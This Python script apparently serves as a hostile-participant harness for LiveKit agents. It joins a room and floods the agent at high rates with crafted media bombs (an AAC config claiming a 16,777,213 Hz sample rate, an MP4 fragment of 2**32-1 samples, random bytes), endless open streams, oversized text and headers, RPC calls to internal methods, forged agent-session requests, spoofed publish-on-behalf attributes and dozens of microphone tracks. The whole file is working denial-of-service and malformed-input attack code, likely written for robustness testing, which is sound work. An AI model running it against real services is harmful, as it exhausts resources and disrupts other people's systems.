"""A hostile participant on LiveKit's official Python SDK: sends everything that a participant can send, too
much of it, too large, malformed and without an end.

usage: attacker.py URL TOKEN AAC_RECORDING

AAC_RECORDING is an ordinary MP4 recording with AAC-LC audio; the hostile recordings are made from it.

Reads commands from standard input, a line each: `attack` begins, the end of input stops it.
Writes a JSON object a line: {"event": "joined"}, {"event": "attacking"}, and
{"event": "sent", "counts": {KIND: N, ...}} when it stops.
"""

import asyncio
import collections
import json
import os
import struct
import sys
import uuid

from livekit import rtc
from livekit.protocol.agent_pb.agent_session import AgentSessionMessage

RATE = 48_000
COUNTS: collections.Counter[str] = collections.Counter()


def tell(event: str, **details: object) -> None:
    print(json.dumps({"event": event, **details}), flush=True)


def atom(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(payload), kind) + payload


def absurd_rate(recording: bytes) -> bytes:
    """The recording with a sample rate of 16,777,213 Hz in its AudioSpecificConfig.

    Source: ISO/IEC 14496-3, 1.6.2.1: object type 2, frequency index 15, 24 bits of frequency, one channel.
    """
    config = recording.index(b"\x11\x88\x56\xe5\x00")
    mdat = recording.index(b"mdat") + 4
    bits = f"{2:05b}{15:04b}{16_777_213:024b}{1:04b}000"
    changed = bytearray(recording)
    changed[config : config + 5] = int(bits, 2).to_bytes(5, "big")
    # ID_END in the first three bits: a packet without audio, which decodes to silence.
    changed[mdat] = 0xE0
    return bytes(changed)


def endless_fragment(recording: bytes) -> bytes:
    """The header of the recording with a second track, which has a fragment of 2**32 - 1 empty samples.

    Source: ISO/IEC 14496-12, 8.8.7 (tfhd) and 8.8.8 (trun).
    """
    at, kept = 0, b""
    while at + 8 <= len(recording):
        size, kind = struct.unpack_from(">I4s", recording, at)
        if kind == b"ftyp":
            kept += recording[at : at + size]
        if kind == b"moov":
            kept += with_second_track(recording[at + 8 : at + size])
        at += size or len(recording)
    tfhd = atom(b"tfhd", struct.pack(">II", 0x020000, 2))
    trun = atom(b"trun", struct.pack(">II", 0, 0xFFFF_FFFF))
    moof = atom(b"moof", atom(b"mfhd", struct.pack(">II", 0, 1)) + atom(b"traf", tfhd + trun))
    return kept + moof + atom(b"mdat", bytes(16))


def with_second_track(moov: bytes) -> bytes:
    at, parts = 0, b""
    while at + 8 <= len(moov):
        size, kind = struct.unpack_from(">I4s", moov, at)
        part = moov[at : at + size]
        at += size
        if kind == b"trak":
            second = bytearray(part)
            header = second.index(b"tkhd") + 4
            number = header + 4 + (8 if second[header] == 0 else 16)
            second[number : number + 4] = struct.pack(">I", 2)
            parts += part + bytes(second)
        elif kind == b"mvex":
            trex = atom(b"trex", struct.pack(">IIIIII", 0, 2, 1, 0, 0, 0))
            parts += atom(b"mvex", part[8:] + trex)
        else:
            parts += part
    return atom(b"moov", parts)


class Attack:
    def __init__(self, room: rtc.Room, track: str, recording: bytes) -> None:
        self.room, self.track = room, track
        self.bombs = [absurd_rate(recording), endless_fragment(recording), os.urandom(2_000_000)]
        self.open: list[object] = []

    @property
    def me(self) -> rtc.LocalParticipant:
        return self.room.local_participant

    def agent(self) -> str:
        return next(iter(self.room.remote_participants), "")

    async def recording(self) -> None:
        for bomb in self.bombs:
            writer = await self.me.stream_bytes(
                "recording",
                topic="lk.agent.pre-connect-audio-buffer",
                mime_type="audio/mp4",
                attributes={"trackId": self.track, "sampleRate": "4294967295", "channels": "65535"},
            )
            await writer.write(bomb)
            await writer.aclose()

    async def endless_text(self) -> None:
        self.open.append(await self.me.stream_text(topic="lk.chat"))

    async def endless_bytes(self) -> None:
        self.open.append(await self.me.stream_bytes("x", topic=str(uuid.uuid4())))

    async def fat_header(self) -> None:
        self.open.append(await self.me.stream_text(topic="x", attributes={"a": "a" * 10_000}))

    async def text(self) -> None:
        await self.me.send_text("and again", topic="lk.chat")

    async def long_text(self) -> None:
        await self.me.send_text("long " * 100_000, topic="lk.chat")

    async def key(self) -> None:
        await self.me.publish_dtmf(code=11, digit="#")
        await self.me.publish_dtmf(code=1, digit="1")

    async def call(self) -> None:
        for method in ("cleanupConnectionPool", "getConnectionPoolStats", "say", "interrupt", "none"):
            asyncio.ensure_future(self.quietly(self.invoke(method)))

    async def invoke(self, method: str) -> None:
        await self.me.perform_rpc(
            destination_identity=self.agent(), method=method, payload="{}", response_timeout=5
        )

    async def request(self) -> None:
        for name in ("get_chat_history", "get_agent_info", "run_input"):
            message = AgentSessionMessage()
            message.request.request_id = str(uuid.uuid4())
            body = getattr(message.request, name)
            body.SetInParent()
            if name == "run_input":
                body.text = "more work"
            await self.send_bytes("lk.agent.session", message.SerializeToString())

    async def garbage(self) -> None:
        await self.send_bytes("lk.agent.session", os.urandom(500))
        await self.me.publish_data(os.urandom(1_000), reliable=True, topic="lk.chat")
        await self.me.publish_data(os.urandom(1_000), reliable=False)

    async def send_bytes(self, topic: str, payload: bytes) -> None:
        writer = await self.me.stream_bytes("request", topic=topic)
        await writer.write(payload)
        await writer.aclose()

    async def microphone(self) -> None:
        """One more microphone, up to thirty."""
        if COUNTS["microphone"] < 30:
            track = rtc.LocalAudioTrack.create_audio_track("more", rtc.AudioSource(RATE, 1))
            options = rtc.TrackPublishOptions(source=rtc.TrackSource.SOURCE_MICROPHONE)
            await self.me.publish_track(track, options)

    async def attributes(self) -> None:
        await self.me.set_attributes({"lk.publish_on_behalf": str(uuid.uuid4())})

    @staticmethod
    async def quietly(sending) -> None:
        # Refusals are what the agent owes us.
        try:
            await asyncio.wait_for(sending, 10)
        except Exception:
            COUNTS["refused"] += 1

    async def keep(self, each, times_a_second: float) -> None:
        while True:
            await self.quietly(each())
            COUNTS[each.__name__] += 1
            await asyncio.sleep(1 / times_a_second)

    async def all(self) -> None:
        paces = {
            self.recording: 1,
            self.endless_text: 60,
            self.endless_bytes: 60,
            self.fat_header: 10,
            self.text: 30,
            self.long_text: 0.5,
            self.key: 20,
            self.call: 4,
            self.request: 10,
            self.garbage: 20,
            self.microphone: 2,
        }
        await asyncio.gather(*(self.keep(each, pace) for each, pace in paces.items()))


async def main(url: str, token: str, path: str) -> None:
    with open(path, "rb") as file:
        recording = file.read()
    room = rtc.Room()
    await room.connect(url, token)
    source = rtc.AudioSource(RATE, 1)
    track = rtc.LocalAudioTrack.create_audio_track("microphone", source)
    options = rtc.TrackPublishOptions(source=rtc.TrackSource.SOURCE_MICROPHONE)
    publication = await room.local_participant.publish_track(track, options)
    tell("joined")
    attack = None
    while await asyncio.to_thread(sys.stdin.readline):
        attack = asyncio.create_task(Attack(room, publication.sid, recording).all())
        tell("attacking")
    if attack is not None:
        attack.cancel()
    tell("sent", counts=COUNTS)
    os._exit(0)  # Streams without an end would be waited for.


asyncio.run(main(*sys.argv[1:]))
